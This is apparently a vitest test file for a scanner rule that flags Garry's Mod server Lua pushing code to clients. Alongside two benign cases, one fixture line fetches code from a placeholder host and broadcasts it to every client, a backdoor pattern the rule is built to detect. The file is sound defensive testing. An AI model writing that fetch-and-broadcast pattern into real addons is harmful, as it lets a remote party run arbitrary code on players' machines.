// Valid and invalid cases of the `client_code_push` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './client_code_push.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('client_code_push', () => {
  it('remote body broadcast to clients', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'http.Fetch("https://a.invalid/c", function(b) BroadcastLua(b) end)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it("an admin's announcement pushed to every client", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'net.Receive("Announce_Send", function(len, ply)',
        '  if not ply:IsAdmin() then return end',
        '  BroadcastLua(string.format("chat.AddText(%q)", net.ReadString()))',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
  });
  it('constant notification snippet', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'BroadcastLua([[notification.AddLegacy("Map cleaned up", NOTIFY_CLEANUP, 4)]])',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
});
